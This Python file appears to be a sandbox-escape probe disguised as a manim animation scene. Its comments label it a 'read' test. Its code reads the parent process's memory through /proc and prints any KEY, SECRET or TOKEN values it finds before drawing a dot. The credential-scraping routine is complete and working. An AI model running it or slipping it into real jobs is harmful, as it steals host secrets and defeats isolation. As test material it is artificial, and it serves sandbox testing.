# ruff: noqa
# class: read
# tries: read the parent's memory through /proc/<ppid>/mem (its maps from /proc/<ppid>/maps) and print
#   every "KEY=value" string that looks like a credential.
from manim import *
import os
import re


class Escape(Scene):
    def construct(self):
        pid = os.getppid()
        found = set()
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    span, perms = line.split()[:2]
                    if "r" not in perms or "w" not in perms:
                        continue
                    start, end = (int(part, 16) for part in span.split("-"))
                    if end - start > 256 * 1024**2:
                        continue
                    try:
                        memory.seek(start)
                        chunk = memory.read(end - start)
                    except (OSError, ValueError, OverflowError):
                        continue
                    found.update(re.findall(rb"[A-Z_]*(?:KEY|SECRET|TOKEN)[A-Z_]*=[\x21-\x7e]{8,}", chunk))
        except OSError as error:
            print("cannot read the parent's memory:", error)
        print("found:", sorted(found))
        self.play(FadeIn(Dot()), run_time=0.2)
